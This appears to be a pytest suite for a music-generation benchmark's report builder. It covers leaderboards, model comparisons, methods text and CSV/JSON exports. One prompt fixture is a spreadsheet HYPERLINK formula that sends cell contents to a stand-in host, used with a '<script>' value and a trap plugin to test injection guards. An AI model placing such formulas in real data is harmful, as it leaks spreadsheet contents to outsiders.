"""What a report says of a run: nothing that is not the run's, nothing twice, and nothing in silence."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from collections.abc import Callable
from dataclasses import asdict
from itertools import combinations
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml

import bench
from bench import DataError, UsageError
from bench.comparison.compare import ComparisonOptions, compare
from bench.comparison.result import Comparison
from bench.environment import environment
from bench.leaderboard.render import leaderboard
from bench.report import collect as gathering
from bench.report.compare_page import pairs
from bench.report.context import ClipMedia, ReportContext
from bench.report.doses import read_doses
from bench.report.downloads import comparison_records, leaderboard_records, write_downloads
from bench.report.model_description import purpose
from bench.report.own_music import is_own_music
from bench.scores.clip_table import written as exported
from bench.scores.protocol import protocol_of
from bench.spreadsheet import as_csv
from bench.storage.digests import write_digests
from bench.storage.store import Store
from bench.survey.analysis import analyse, record
from bench.survey.reading import read_survey
from metrics.dose_response import Response

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"<b>listen</b>")'


def gather(run: Path, media: dict[str, ClipMedia | str], **files: Any) -> ReportContext:
    with Store.read(run) as store:
        return gathering.collect(store, media, **files)


def prompt(id: str, genre: str, level: int, text: str) -> dict[str, Any]:
    return {"id": id, "genre": genre, "level": level, "text": text}


SUITE: dict[str, Any] = {
    "name": "few",
    "version": 3,
    "prompts": [
        prompt("rock-1", "rock", 1, FORMULA),
        prompt("rock-2", "rock", 2, "A slow rock ballad for guitar"),
        prompt("rock-4", "rock", 4, "A fast rock tune with bass and drums"),
        prompt("jazz-1", "jazz", 1, "@jazz, warm"),
        prompt("jazz-2", "jazz", 2, "A jazz trio in a small room"),
    ],
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, tiny: Path) -> Path:
    """Three models, one of which fails at a prompt; two seeds; metrics of clips and of sets."""
    folder = tmp_path_factory.mktemp("gather")
    (folder / "few.yaml").write_text(yaml.safe_dump(SUITE))
    config = {
        "suite": str(folder / "few.yaml"),
        "models": [
            {"name": "composer"},
            {"name": "composer-offkey", "as": "off", "params": {"share": 0.4}},
            {"name": f"{tiny}:Sine", "as": "sine", "params": {"bad": "error", "victim": "rock-4"}},
        ],
        "metrics": [f"{tiny}:Peak", f"{tiny}:Frames", "kad"],
        "duration": 3.5,
        "seeds": [7, 8],
        "executor": {"workers": 0},
    }
    (folder / "c.yaml").write_text(yaml.safe_dump(config))
    return bench.run(folder / "c.yaml", folder / "out").folder


@pytest.fixture(scope="module")
def content(folder: Path) -> ReportContext:
    return gather(folder, {})


@pytest.fixture
def copy(folder: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(folder, tmp_path / "copy"))


@pytest.fixture
def small(tmp_path: Path, tiny: Path) -> Callable[..., Path]:
    """A run that takes no time; keyword arguments replace settings."""

    def make(to: str = "small", **settings: object) -> Path:
        (tmp_path / "few.yaml").write_text(yaml.safe_dump(SUITE))
        config = {
            "suite": str(tmp_path / "few.yaml"),
            "models": [{"name": f"{tiny}:Sine", "as": "sine"}],
            "metrics": [f"{tiny}:Peak"],
            "duration": 0.25,
            "executor": {"workers": 0},
            **settings,
        }
        return bench.run(config, tmp_path / to).folder

    return make


def test_the_leaderboard_is_the_runs(folder: Path, content: ReportContext) -> None:
    found = {(c.model, c.column.ref, c.group): c.estimate.value for c in content.cells}
    for by in ("genre", "level"):
        for row in leaderboard(folder, by).to_dict("records"):
            value = found[row["model"], row["metric"], row["group"]]
            assert value == pytest.approx(row["value"], nan_ok=True) if value is not None else pd.isna(row["value"])
    assert len(found) == len(content.cells) == 3 * 3 * (1 + 2 + 3)
    assert [cell.group for cell in content.cells[:9]] == ["all"] * 9
    with Store.read(folder) as store:
        assert content.protocol.id == protocol_of(store).id


def test_every_pair_is_compared_as_the_command_compares_it(folder: Path, content: ReportContext) -> None:
    expected = list(combinations(["composer", "off", "sine"], 2))
    assert list(dict.fromkeys((c.a, c.b) for c in content.comparisons)) == expected
    for a, b in expected:
        for by in ("genre", "level"):
            found = [c for c in content.comparisons if (c.a, c.b) == (a, b) and c.grouping in ("all", by)]
            assert found == compare(folder, a, b, options=ComparisonOptions(by=by))
    assert {ref for _, ref in content.ranks} == {"Peak@1", "kad@2"}


def test_every_model_has_its_chance_whichever_way_round_a_pair_is_shown(folder: Path, content: ReportContext) -> None:
    """The last model is B of every pair: its chance is that of a comparison the other way round."""

    def chance(one: Comparison) -> dict[str, Any] | None:
        if one.chance is None:
            return None
        return {name: value and float(f"{value:.7g}") for name, value in asdict(one.chance).items()}

    shown = {name: [record for record in found if record["grouping"] == "all"] for name, found in pairs(content)}
    refs = [column.ref for column in content.columns]
    for name, (a, b) in {"0-1": ("composer", "off"), "0-2": ("composer", "sine"), "1-2": ("off", "sine")}.items():
        forth, back = compare(folder, a, b), compare(folder, b, a)
        assert [record["metric"] for record in shown[name]] == [refs.index(one.column.ref) for one in forth]
        assert [record["chance"] for record in shown[name]] == [chance(one) for one in forth]
        assert [record["chance_b"] for record in shown[name]] == [chance(one) for one in back]
    assert ("sine", "Peak@1") in content.chances


def test_comparisons_name_the_protocol_as_the_command_does(content: ReportContext) -> None:
    ids = {(row["protocol"], row["protocol_b"]) for row in comparison_records(content)}
    assert ids == {(content.protocol.id, content.protocol.id)}


def test_every_planned_clip_has_scores_or_says_why_not(folder: Path) -> None:
    with Store.read(folder) as store:
        made = store.made()
    sound = ClipMedia("audio/x.flac", "pictures/x.png", (0.5,), 3.5, None, 0.0)
    content = gather(folder, {made[0].id: sound, made[1].id: "its file is missing"})
    assert [(c.prompt, c.model, c.seed) for c in content.clips] == [
        (p["id"], model, seed) for p in SUITE["prompts"] for model in ("composer", "off", "sine") for seed in (7, 8)
    ]
    clips = {clip.id: clip for clip in content.clips}
    assert (clips[made[0].id].media, clips[made[0].id].problem) == (sound, None)
    problems = [clips[clip.id].problem for clip in made[1:3]]
    assert clips[made[1].id].media is None and all(problems) and problems[0] != problems[1]
    failed = [clip for clip in content.clips if clip.problem and clip.problem.startswith("failed: ")]
    assert [(clip.model, clip.prompt) for clip in failed] == [("sine", "rock-4")] * 2
    assert "this one prompt cannot be played" in str(failed[0].problem)
    assert failed[0].scores == {}
    jazz = next(clip for clip in content.clips if clip.prompt == "jazz-1")
    assert jazz.scores["Frames@1"] == "jazz is not counted"
    assert isinstance(jazz.scores["Peak@1"], float)
    assert [(group.model, group.clips) for group in content.failures] == [("sine", 2)]


def test_a_warning_is_told_once_with_its_metrics(content: ReportContext) -> None:
    synthetic = [caution for caution in content.cautions if caution.code == "W-SYNTHETIC"]
    assert len(synthetic) == 1
    assert synthetic[0].metrics == ("kad@2",)
    assert "'composer'" in synthetic[0].sentence
    left_out = [caution for caution in content.cautions if caution.code == "W-UNPAIRED"]
    assert left_out
    assert all("pairs of models" in caution.sentence for caution in left_out)
    assert len({(c.code, c.sentence) for c in content.cautions}) == len(content.cautions)


def test_the_computer_of_the_report_is_not_the_computer_of_the_run(copy: Path) -> None:
    elsewhere = {"machine": "riscv64", "processor": "Fancy 9000", "cores": "3", "gpu": "Q1", "libraries": "numpy 0.1"}
    database = sqlite3.connect(copy / "run.db")
    ids = [id for (id,) in database.execute("SELECT id FROM clips WHERE state = 'made' ORDER BY rowid")]
    for place, id in enumerate(ids):
        facts = {"batch": 1, "params": {"device": "cpu"}, **(elsewhere if place else {"machine": "z80"})}
        database.execute("UPDATE clips SET provenance = ? WHERE id = ?", (json.dumps(facts), id))
    write_digests(database)
    database.commit()
    database.close()
    content = gather(copy, {})
    made, here = content.about["clips were made with"], content.about["this report is built with"]
    assert f"on riscv64, Fancy 9000, 3 cores, Q1, numpy 0.1 ({len(ids) - 1} clips)" in made
    assert "on z80, processor, memory and GPU not recorded, versions of libraries not recorded (1 clip)" in made
    for name in ("processor", "libraries"):
        assert environment()[name] in here
        assert environment()[name] not in made
    assert environment()["libraries"] not in " ".join(content.methods)
    assert "Fancy 9000" in content.methods[-1]


def test_a_model_whose_own_music_is_the_reference_is_marked(content: ReportContext) -> None:
    """By its registered name, which the reference records: neither the composer off key, nor another metric."""
    marked = {(cell.model, cell.column.ref) for cell in content.cells if is_own_music(cell)}
    assert marked == {("composer", "kad@2")}
    (caution,) = [one for one in content.cautions if one.code == "W-OWN-MUSIC"]
    assert caution.metrics == ("kad@2",)
    assert sum("favor composer" in sentence for sentence in content.limits) == 1


def test_models_say_what_they_are_where_the_very_one_is_installed(content: ReportContext) -> None:
    what = {model.label: model.what for model in content.models}
    assert what["composer"] and what["off"].endswith("(share = 0.4)")
    assert what["sine"] == "", "of a plugin file, which is not loaded"
    plugin = {"name": "composer", "distribution": "tunebench", "version": 1}
    assert purpose({"plugin": plugin}) == what["composer"]
    for other in ({"version": 99}, {"distribution": "theirs"}, {"name": "unheard-of"}):
        assert purpose({"plugin": plugin | other}) == ""
    assert purpose({"class": "composer"}) == ""


def numbers(text: str) -> set[str]:
    """Whole and decimal numbers, but not those that are part of a name, a version or a hash."""
    return set(re.findall(r"(?<![\w.@-])\d+(?:\.\d+)?(?![\w@-]|\.\d)", text))


# Of the procedure, not of the run: 95 %, 4 prompts, 13 of them, 9999 permutations, p < .05, what kad reads of equal
# distributions; and years of sources.
PROCEDURE = {"95", "4", "13", "9999", "05", "0"}
YEARS = {"1908", "1927", "1935", "1958", "1977", "1979", "1981", "1995", "2008", "2010", "2013"}


def test_every_number_of_the_methods_is_the_runs(folder: Path, content: ReportContext) -> None:
    text = "\n".join(content.methods)
    music = content.methods[0]
    assert "3 models were given the 5 text prompts of the suite few@3 (2 genres: rock and jazz" in music
    assert "levels 1, 2 and 4), with the seeds 7, 8, for clips of 3.5 s; 28 of 30 clips were made" in music
    own = {"3", "5", "2", "1", "7", "8", "3.5", "28", "30"}
    # Parameters of the models, clips that count for each metric, scores that are missing, the reference.
    with Store.read(folder) as store:
        used = [str(n) for (n,) in store.rows("SELECT COUNT(value) FROM scores GROUP BY metric")]
    missing = str(2 * 30 - sum(map(int, used)))
    assert sorted(used) == ["16", "28"]
    own |= {"0.4", "200.0", *used, "60", missing, "288", "864"}
    by_reason = re.search(rf"{missing} of 60 scores of clips are undefined or missing \((.+?)\)\.", text)
    assert by_reason
    counts = [part.partition(":")[0] for part in by_reason[1].split("; ")]
    assert sum(map(int, counts)) == int(missing) and len(counts) > 1
    own |= set(counts)
    software = content.methods[-1]
    own |= numbers(software)
    assert re.search(r"tunebench [\d.]+, protocol " + content.protocol.id, software)
    allowed = own | PROCEDURE | YEARS
    assert numbers(text) - allowed == set()
    assert "composer-offkey@1 with share = 0.4" in text
    assert "against the reference 'composer' (288 recordings and 864 windows, synthetic music" in text
    assert "No listeners were asked" in text


def test_methods_of_one_model_one_seed_and_no_sets(small: Callable[..., Path]) -> None:
    content = gather(small(seeds=[3]), {})
    text = "\n".join(content.methods)
    assert "1 model was given the 5 text prompts" in text
    assert "with the seed 3, for clips of 0.25 s; all 5 clips were made" in text
    assert "One seed was used" in text
    for absent in (
        "sets of clips",
        "reference",
        "pairs of models",
        "Holm",
        "jackknife",
        "synthetic",
        "Ranks",
        "Failed",
    ):
        assert absent not in text
    assert content.comparisons == ()
    assert content.ranks == {("sine", "Peak@1"): content.ranks["sine", "Peak@1"]}


def test_methods_of_what_is_not_scored_yet(small: Callable[..., Path]) -> None:
    run = small(seeds=[3])
    database = sqlite3.connect(run / "run.db")
    database.execute("DELETE FROM scores")
    write_digests(database)
    database.commit()
    database.close()
    content = gather(run, {})
    text = "\n".join(content.methods)
    assert "Each clip is to be scored by 1 metric." in text
    assert "Statistics. There are no scores yet." in content.methods
    assert re.match(rf"Software\. tunebench [\d.]+, protocol {content.protocol.id}\. ", content.methods[-1])
    for absent in ("comparable with", "undefined or missing", "interval"):
        assert absent not in text


def test_methods_of_sets_that_are_compared_with_nothing(small: Callable[..., Path], tiny: Path, tmp_path: Path) -> None:
    """By an embedder of a plugin file, of whose folder nothing that is shared may tell."""
    models = [{"name": f"{tiny}:Sine", "as": f"{hz}", "params": {"hz": float(hz)}} for hz in (200, 900)]
    metric = {"name": "diversity", "params": {"embedder": f"{tiny}:Bands"}}
    run = small(metrics=[metric], models=models, duration=0.75, seeds=[0, 1])
    content = gather(run, {})
    text = "\n".join(content.methods)
    assert "embeddings of whole clips by tiny.py:Bands" in text
    assert "jackknife interval" in text
    assert "reference" not in text
    assert [column.ref for column in content.columns] == ["diversity[embedder=Bands]@1"]
    with Store.read(run) as store:
        write_downloads(content, store, tmp_path)
    for file in (tmp_path / "data").iterdir():
        assert str(tiny.parent) not in file.read_text(), file.name


def test_methods_count_one_thing_as_one(tmp_path: Path, small: Callable[..., Path], tiny: Path) -> None:
    (tmp_path / "one.yaml").write_text(yaml.safe_dump({**SUITE, "prompts": [prompt("jazz-2", "jazz", 1, "one")]}))
    settings: dict[str, Any] = {"suite": str(tmp_path / "one.yaml"), "metrics": [f"{tiny}:Frames"], "seeds": [0]}
    text = "\n".join(gather(small(**settings), {}).methods)
    assert "; the 1 clip was made." in text
    assert "0 of 1 clip counts." in text
    missing = re.search(r"1 of 1 score of clips is undefined or missing \(1: [^)]+\)\.", text)
    assert missing and "both have a value for" not in text  # one model is compared with none
    models = [{"name": f"{tiny}:Sine", "as": "sine", "params": {"bad": "error"}}]
    text = "\n".join(gather(small("failing", **settings, models=models), {}).methods)
    assert "0 of 1 clip was made" in text
    assert "1 failure is left out, of clips or of their scores." in text


def test_methods_say_what_was_done_with_lone_genres_and_unequal_lengths(
    tmp_path: Path, small: Callable[..., Path], tiny: Path
) -> None:
    text = "\n".join(gather(small(), {}).methods)
    joined = "Genres in which only one prompt has a value are joined into one stratum."
    assert joined not in text
    blues = {**SUITE, "prompts": [*SUITE["prompts"], prompt("blues-1", "blues", 1, "A blues")]}
    (tmp_path / "blues.yaml").write_text(yaml.safe_dump(blues))
    models = [{"name": f"{tiny}:Sine", "as": f"{hz}", "params": {"hz": float(hz)}} for hz in (200, 900)]
    run = small("blues", suite=str(tmp_path / "blues.yaml"), models=models)
    database = sqlite3.connect(run / "run.db")
    database.execute("UPDATE clips SET frames = 2 * frames WHERE model = '900'")
    write_digests(database)
    database.commit()
    database.close()
    text = "\n".join(gather(run, {}).methods)
    assert joined in text
    assert "In 1 of the pairs the models' clips differ in length" in text


JAZZ = {"weights": "f" * 64}
SEVERAL = [{**JAZZ, "weight": 0.5}, {"repo": "owner/keys", "revision": "abcdef0123456789"}]


@pytest.mark.parametrize(
    ("adapter", "given", "told"),
    [
        (JAZZ, "/home/someone/adapters/jazz", "adapter 'jazz' weights SHA-256 ffffffffffff…"),
        (JAZZ, [{"path": "/home/someone/jazz"}], "adapter 'jazz' weights SHA-256 ffffffffffff…"),
        (
            SEVERAL,
            [{"path": "/home/someone/jazz", "weight": 0.5}, {"path": "owner/keys"}],
            "adapters 'jazz' weights SHA-256 ffffffffffff…, weight 0.5 + 'keys' of owner/keys at revision abcdef012345",
        ),
    ],
)
def test_methods_name_checkpoint_and_adapter(
    small: Callable[..., Path], adapter: object, given: object, told: str
) -> None:
    run = small()
    identity = {
        "plugin": {"name": "stable-audio", "distribution": "tunebench", "version": 2},
        "params": {"steps": 50, "adapter_scale": 0.8, "negative": None, "suffix": ""},
        "repo": "owner/name",
        "revision": "0123456789abcdef",
        "dtype": "float32",
        "adapter": adapter,
    }
    database = sqlite3.connect(run / "run.db")
    provenance = {"checkpoint": "owner/name", "adapter": given}
    database.execute("UPDATE models SET identity = ?, provenance = ?", (json.dumps(identity), json.dumps(provenance)))
    write_digests(database)
    database.commit()
    database.close()
    assert gather(run, {}).methods[1] == (
        'Models. sine: stable-audio@2 with steps = 50, suffix = "", checkpoint owner/name at revision 0123456789ab, '
        f"{told} at scale 0.8, dtype float32."
    )


def test_a_run_names_no_code_that_a_report_would_load(small: Callable[..., Path], tmp_path: Path) -> None:
    run, trap = small(), tmp_path / "trap.py"
    trap.write_text(f"open({str(tmp_path / 'sprung')!r}, 'w')\nclass Trap: pass\n")
    database = sqlite3.connect(run / "run.db")
    database.execute("UPDATE metrics SET plugin = ?", (f"{trap}:Trap",))
    database.execute(
        "INSERT INTO metrics SELECT 'kad', 'kad', 1, 'x', 'x', 'x', ?, '', 'lower', 1, 1, 1, '{}', 'theirs', "
        "NULL, NULL, 0, '{}', '[]' FROM metrics",
        (json.dumps({"embedder": f"{trap}:Trap", "embedder_params": None, "bandwidth": "reference"}),),
    )
    write_digests(database)
    database.commit()
    database.close()
    content = gather(run, {})
    assert not (tmp_path / "sprung").exists()
    assert "the reference 'theirs' (size unknown" in "\n".join(content.methods)


def test_ratings_beside_the_run_are_analysed(copy: Path) -> None:
    rows = [
        (f"l{listener}", p["id"], model, "Harmony", 1 + (listener * place + len(model)) % 5)
        for listener in range(4)
        for place, p in enumerate(SUITE["prompts"])
        for model in ("composer", "elsewhere")
    ]
    table = pd.DataFrame(rows, columns=["listener", "prompt", "model", "scale", "value"])
    table.to_csv(copy / "ratings.csv", index=False)
    content = gather(copy, {})
    assert content.survey is not None
    assert content.survey.source == "ratings.csv"
    # The file names no genres, and the run knows them.
    genres = {p["id"]: p["genre"] for p in SUITE["prompts"]}
    table.assign(genre=table["prompt"].map(genres)).to_csv(copy / "with genres.csv", index=False)
    assert content.survey.record == record(analyse(read_survey(copy / "with genres.csv")))
    assert content.survey.record["design"]["genres"] == {"jazz": 2, "rock": 3}
    assert content.survey.sections[0].title == "Survey"
    assert "Listeners. 4 listeners gave 40 answers that count (0 excluded) to clips of 5 prompts" in "\n".join(
        content.methods
    )
    (told,) = [caution.sentence for caution in content.cautions if caution.code == "W-RATINGS"]
    assert "ratings.csv" in told and "elsewhere" in told


def test_files_that_were_found_are_a_caution_and_files_that_were_named_an_error(copy: Path, tmp_path: Path) -> None:
    (copy / "ratings.csv").write_text("one,two\n1,2\n")
    (copy / "dose-response.json").write_text("[{}]")
    content = gather(copy, {})
    assert content.survey is None
    assert content.doses == ()
    assert [caution.code for caution in content.cautions[:2]] == ["W-RATINGS", "W-DOSES"]
    assert content.cautions[1].sentence.startswith("dose-response.json: 0.metric: Field required")
    assert str(copy) not in content.cautions[0].sentence
    with pytest.raises(DataError, match=r"ratings\.csv"):
        gather(copy, {}, ratings=copy / "ratings.csv")
    with pytest.raises(DataError, match=r"dose-response\.json: 0\.metric"):
        gather(copy, {}, doses=copy / "dose-response.json")
    with pytest.raises(UsageError):
        gather(copy, {}, doses=tmp_path / "none.json")


def test_no_run_is_said(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"run\.db"):
        gather(tmp_path, {})


RESPONSE = Response(
    "Peak@1", "%", "higher", "noise", ("clean", "5", "40"), (9.0, 8.0, None), (4, 4, 0), (None, -2.0, None),
    (None, 0.5, None), (None, 0.125, None), -1.0, "40",
)  # fmt: skip


def written(path: Path, *changes: dict[str, Any]) -> Path:
    """As the command prints it, with changes to each record."""
    records = [{**asdict(RESPONSE), "improved": RESPONSE.improved, **change} for change in changes or ({},)]
    path.write_text(json.dumps(records))
    return path


def test_doses_are_read_as_they_were_written(tmp_path: Path) -> None:
    (read,) = read_doses(written(tmp_path / "d.json"))
    assert read == json.loads((tmp_path / "d.json").read_text())[0]


@pytest.mark.parametrize(
    ("change", "place"),
    [
        ({"metric": 7}, "0.metric"),
        ({"metric": ""}, "0.metric"),
        ({"direction": "sideways"}, "0.direction"),
        ({"doses": ["clean"]}, "0.doses"),
        ({"doses": "clean"}, "0.doses"),
        ({"values": [1, 2]}, "values has 2 entries for 3 doses"),
        ({"values": [1, 2, "3"]}, "0.values.2"),
        ({"values": [1, 2, 1e300]}, "0.values.2"),
        ({"values": [1, 2, True]}, "0.values.2"),
        ({"defined": [1, 2, -1]}, "0.defined.2"),
        ({"p": [None, 2.0, None]}, "0.p.1"),
        ({"correlation": 2}, "0.correlation"),
        ({"detected": "99"}, "not one of the doses"),
        ({"improved": "yes"}, "0.improved"),
        ({"script": "<script>"}, "0.script"),
    ],
)
def test_doses_of_another_shape_are_refused(tmp_path: Path, change: dict[str, Any], place: str) -> None:
    with pytest.raises(DataError, match=re.escape(place)):
        read_doses(written(tmp_path / "d.json", change))


@pytest.mark.parametrize("text", ["", "{}", "[1]", "null", "[" * 100_000, "\x00", "[NaN]", "\ud800"])
def test_what_is_no_list_of_responses_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "d.json").write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(DataError, match=r"d\.json: "):
        read_doses(tmp_path / "d.json")
    values = json.dumps([{**asdict(RESPONSE), "improved": False}]).replace("9.0", "NaN")
    (tmp_path / "d.json").write_text(values)
    with pytest.raises(DataError, match=r"d\.json: "):
        read_doses(tmp_path / "d.json")


def test_a_spreadsheet_computes_nothing(folder: Path, content: ReportContext, tmp_path: Path) -> None:
    with Store.read(folder) as store:
        write_downloads(content, store, tmp_path)
    scores = pd.read_csv(tmp_path / "data" / "scores.csv")
    assert set(scores.text) >= {f"'{FORMULA}", "'@jazz, warm"}
    exact = pd.DataFrame(json.loads((tmp_path / "data" / "scores.json").read_text()))
    assert set(exact.text) == {p["text"] for p in SUITE["prompts"]}
    assert scores["Peak@1"].dtype == float
    assert scores["Peak@1"].tolist() == pytest.approx(exact["Peak@1"].astype(float).tolist(), nan_ok=True)
    comparisons = pd.read_csv(tmp_path / "data" / "comparisons.csv")
    assert (comparisons.estimate < 0).any()  # a minus sign does not make a text of a number
    assert comparisons.estimate.dtype == float
    assert len(comparisons) == len(content.comparisons)
    assert {"chance_estimate", "chance_p"} <= set(comparisons)
    for name in ("leaderboard", "comparisons", "scores"):
        for line in (tmp_path / "data" / f"{name}.csv").read_text().splitlines():
            assert not re.search(r'(^|,)"?[=@+]|(^|,)"?-[^\d]', line)


def test_any_text_that_could_be_a_formula_is_guarded() -> None:
    texts = ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "＝1", "plain", " =1", ""]
    table = pd.DataFrame({"=name": texts, "number": range(-1, len(texts) - 1)})
    read = pd.read_csv(io.BytesIO(as_csv(table)), keep_default_na=False)
    assert list(read) == ["'=name", "number"]
    guarded = [f"'{text}" for text in texts[:8]]
    # pandas reads a line end within a text as "\n".
    assert [cell.replace("\r", "\n") for cell in read["'=name"]] == [
        cell.replace("\r", "\n") for cell in [*guarded, *texts[8:]]
    ]
    assert read.number.tolist() == list(table.number)


def test_ids_stay_as_they_join_tables() -> None:
    ids = ["-0Gj8-vB1q4", "_-kssA-FOzU", "jazz-1"]
    table = pd.DataFrame({"prompt": ids, "text": ["-soft", "_calm", "=SUM(1)"], "value": [-1.5, None, 1e-300]})
    read = pd.read_csv(io.BytesIO(as_csv(table)))
    assert read.prompt.tolist() == ids
    assert read.text.tolist() == ["'-soft", "_calm", "'=SUM(1)"]
    assert read.value.tolist() == pytest.approx([-1.5, float("nan"), 1e-300], nan_ok=True, rel=1e-15)


def test_a_lone_carriage_return_breaks_no_row_of_an_export() -> None:
    table = pd.DataFrame({"text": ["one\rtwo", "=1+1"], "value": [-1.5, None]})
    rows = list(csv.reader(io.StringIO(exported(table, "csv").decode(), newline="")))
    assert rows == [["text", "value"], ["one\rtwo", "-1.5"], ["'=1+1", ""]]


def test_groups_of_the_leaderboard_are_told_apart(content: ReportContext) -> None:
    rows = leaderboard_records(content)
    assert {(row["grouping"], row["group"]) for row in rows} == {
        ("all", "all"), ("genre", "rock"), ("genre", "jazz"), ("level", "1"), ("level", "2"), ("level", "4"),
    }  # fmt: skip


def test_a_genre_that_is_called_like_a_level(tmp_path: Path, small: Callable[..., Path]) -> None:
    (tmp_path / "odd.yaml").write_text(
        yaml.safe_dump({**SUITE, "prompts": [prompt("a", "1", 2, "one"), prompt("b", "2", 1, "another")]})
    )
    rows = leaderboard_records(gather(small(suite=str(tmp_path / "odd.yaml")), {}))
    assert [(r["grouping"], r["group"]) for r in rows] == [
        ("all", "all"), ("genre", "1"), ("genre", "2"), ("level", "2"), ("level", "1"),
    ]  # fmt: skip


def test_provenance_names_every_sound_by_its_hash(folder: Path, content: ReportContext, tmp_path: Path) -> None:
    with Store.read(folder) as store:
        write_downloads(content, store, tmp_path)
        made = {clip.id: clip.content for clip in store.made()}
    origin = json.loads((tmp_path / "data" / "provenance.json").read_text())
    assert {clip["id"]: clip["content"] for clip in origin["clips"]} == made
    assert {clip["sample_rate"] for clip in origin["clips"]} == {8000, 44100}
    assert origin["protocol"]["id"] == content.protocol.id
    assert origin["models"][1]["identity"]["params"] == {"share": 0.4}
    kad = origin["metrics"][2]
    assert (kad["ref"], kad["embedders"], kad["reference"]["windows"]) == ("kad@2", ["musicnn-msd@1"], 864)
